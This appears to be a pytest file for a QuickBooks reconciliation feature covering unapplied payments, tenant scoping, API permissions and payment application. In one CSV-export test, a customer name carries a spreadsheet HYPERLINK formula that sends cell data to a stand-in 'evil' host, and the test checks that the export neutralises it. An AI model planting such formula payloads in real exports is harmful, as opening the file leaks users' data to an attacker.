"""Unapplied QuickBooks payments on the reconciliation page: each is a row (amount, customer, why), scoped to the
company and realm, whose fix marks it handled once a person has applied it in QuickBooks."""

import json
from decimal import Decimal

import pytest
import responses

from integrations.models import QuickBooksUnappliedPayment
from integrations.services import reconciliation
from tests.integrations.conftest import API, REALM

pytestmark = pytest.mark.django_db


@pytest.fixture
def no_invoices_there(intuit):
    intuit.add(responses.GET, f"{API}/query", body=json.dumps({"QueryResponse": {}}))


def unapplied(company, realm=REALM, **fields):
    return QuickBooksUnappliedPayment.objects.create(
        company=company,
        realm_id=realm,
        qbo_payment_id=fields.pop("qbo_payment_id", "77"),
        amount=Decimal("50.00"),
        customer_name=fields.pop("customer_name", "Alpha Client"),
        reason="Not applied to an invoice in QuickBooks.",
        **fields,
    )


def test_unapplied_payments_are_rows_and_the_fix_marks_them_handled(tenant, other_tenant, connected, no_invoices_there):
    mine = unapplied(tenant.company)
    unapplied(tenant.company, realm="4620816365180392970", qbo_payment_id="88")  # another QuickBooks company
    unapplied(other_tenant.company, qbo_payment_id="99")  # another tenant
    review = reconciliation.reconciliation_check(connection=connected)
    (row,) = review.rows
    assert (row["kind"], row["qbo_id"], row["fix"], row["number"]) == (
        "unapplied_payment",
        "77",
        "resolve",
        "Alpha Client",
    )
    assert row["differences"][0]["quickbooks"] == "50.00" and "Not applied" in row["text"]
    done = reconciliation.reconciliation_fix(connection=connected, review_id=review.pk, index=0, user=tenant.admin)
    assert "marked as handled" in done
    mine.refresh_from_db()
    assert mine.status == "resolved"
    with pytest.raises(Exception, match="Already done"):
        reconciliation.reconciliation_fix(connection=connected, review_id=review.pk, index=0, user=tenant.admin)


def test_a_fix_from_a_check_of_a_quickbooks_company_connected_before_is_a_404(tenant, connected, no_invoices_there):
    from django.http import Http404

    from integrations.models import QuickBooksConnection

    mine = unapplied(tenant.company)
    review = reconciliation.reconciliation_check(connection=connected)
    QuickBooksConnection.objects.filter(pk=connected.pk).update(realm_id="4620816365180392970")
    connected.refresh_from_db()
    with pytest.raises(Http404):
        reconciliation.reconciliation_fix(connection=connected, review_id=review.pk, index=0, user=tenant.admin)
    mine.refresh_from_db()
    assert mine.status == "open"


def test_the_csv_neutralises_formulas_even_behind_spaces_and_keeps_negative_amounts_numbers(
    tenant, connected, no_invoices_there
):
    unapplied(tenant.company, customer_name=' =HYPERLINK("http://evil/?"&A1,"x")')
    QuickBooksUnappliedPayment.objects.update(amount=Decimal("-5.00"))
    review = reconciliation.reconciliation_check(connection=connected)
    text = reconciliation.reconciliation_csv(review)
    assert "' =HYPERLINK" in text and ",-5.00," in text and "'-5.00" not in text


# --- applying an unapplied payment to one of our invoices ---------------------------------------------------


@pytest.fixture
def open_invoice(tenant, connected, captured):
    """A finalized invoice (110.00) of Alpha's client, in QuickBooks as invoice 130 of customer 58."""
    from integrations.models import LinkType, QuickBooksLink
    from tests.integrations.conftest import finalize

    invoice = finalize(tenant, captured)
    for object_type, object_id, qbo_id in (
        (LinkType.INVOICE, invoice.pk, "130"),
        (LinkType.CLIENT, invoice.client_id, "58"),
    ):
        QuickBooksLink.objects.create(
            company=tenant.company, realm_id=REALM, object_type=object_type, object_id=object_id, qbo_id=qbo_id
        )
    return invoice


def add_unapplied_payment_there(intuit, customer="58", unapplied_amount=50):
    intuit.add(
        responses.GET,
        f"{API}/payment/77",
        json={
            "Payment": {
                "Id": "77",
                "SyncToken": "2",
                "CustomerRef": {"value": customer, "name": "Alpha Client"},
                "TotalAmt": 50,
                "UnappliedAmt": unapplied_amount,
                "TxnDate": "2026-11-20",
                "Line": [],
            }
        },
    )

    def answer(request):
        body = json.loads(request.body)
        return (
            200,
            {},
            json.dumps(
                {
                    "Payment": {
                        **body,
                        "SyncToken": "3",
                        "TotalAmt": 50,
                        "UnappliedAmt": 0,
                        "TxnDate": "2026-11-20",
                        "CustomerRef": {"value": customer},
                    }
                }
            ),
        )

    intuit.add_callback(responses.POST, f"{API}/payment", callback=answer)


def unapplied_row(review):
    return next((i, r) for i, r in enumerate(review.rows) if r["kind"] == "unapplied_payment")


def test_unapplied_payment_is_applied_there_then_recorded_here_through_the_api(
    tenant, connected, open_invoice, no_invoices_there, intuit, api_client_for
):
    from attune_qbo.billing.models import Payment
    from tests.integrations.conftest import calls_to

    row_model = unapplied(tenant.company, customer_qbo_id="58")
    review = reconciliation.reconciliation_check(connection=connected)
    index, row = unapplied_row(review)
    assert row["fix"] == "apply"
    assert row["candidates"] == [{"invoice_id": open_invoice.pk, "number": open_invoice.number, "due": "110.00"}]
    add_unapplied_payment_there(intuit)
    url = f"/api/v1/integrations/quickbooks/reconciliation/{review.pk}/rows/{index}/fix"
    assert api_client_for(tenant.staff).post(url, {"invoice_id": open_invoice.pk}, format="json").status_code == 403
    response = api_client_for(tenant.admin).post(url, {"invoice_id": open_invoice.pk}, format="json")
    assert response.status_code == 200, response.content
    assert "Applied 50.00 of QuickBooks payment 77 to invoice" in response.json()["done"]
    sent = json.loads(calls_to(intuit, "POST", "/payment")[0].request.body)
    assert sent == {
        "Id": "77",
        "SyncToken": "2",
        "sparse": True,
        "Line": [{"Amount": 50.0, "LinkedTxn": [{"TxnId": "130", "TxnType": "Invoice"}]}],
    }
    payment = Payment.objects.get()
    assert payment.source == "quickbooks" and payment.external_id == f"qbo:{REALM}:77:130"
    row_model.refresh_from_db()
    assert row_model.status == "resolved"


@pytest.mark.parametrize(
    "there, message",
    [
        ({"customer": "99"}, "belongs to another customer"),
        ({"unapplied_amount": 0}, "Nothing of this payment is unapplied"),
    ],
)
def test_apply_is_refused_with_a_reason_and_nothing_changes(
    tenant, connected, open_invoice, no_invoices_there, intuit, there, message
):
    from attune_qbo.billing.models import Payment
    from attune_qbo.core.exceptions import ApplicationError
    from tests.integrations.conftest import calls_to

    unapplied(tenant.company, customer_qbo_id="58")
    review = reconciliation.reconciliation_check(connection=connected)
    index, _ = unapplied_row(review)
    add_unapplied_payment_there(intuit, **there)
    with pytest.raises(ApplicationError, match=message):
        reconciliation.reconciliation_fix(
            connection=connected, review_id=review.pk, index=index, user=tenant.admin, invoice_id=open_invoice.pk
        )
    assert not calls_to(intuit, "POST", "/payment") and not Payment.objects.exists()


def test_apply_needs_one_of_the_rows_candidates_and_can_still_be_marked_handled(
    tenant, other_tenant, connected, open_invoice, no_invoices_there, api_client_for
):
    row_model = unapplied(tenant.company, customer_qbo_id="58")
    review = reconciliation.reconciliation_check(connection=connected)
    index, _ = unapplied_row(review)
    url = f"/api/v1/integrations/quickbooks/reconciliation/{review.pk}/rows/{index}/fix"
    admin = api_client_for(tenant.admin)
    foreign = other_tenant.invoice(finalize=True)
    bad = admin.post(url, {"invoice_id": foreign.pk}, format="json")
    assert bad.status_code == 400 and "Choose one of the customer's open invoices" in bad.json()["message"]
    assert admin.post(url, {"invoice_id": "x"}, format="json").status_code == 400
    from tests.integrations.conftest import make_connection

    make_connection(other_tenant.company, realm="9130000000000002")
    assert api_client_for(other_tenant.admin).post(url, {"choice": "resolve"}, format="json").status_code == 404
    response = admin.post(url, {"choice": "resolve"}, format="json")
    assert response.status_code == 200 and "marked as handled" in response.json()["done"]
    row_model.refresh_from_db()
    assert row_model.status == "resolved"
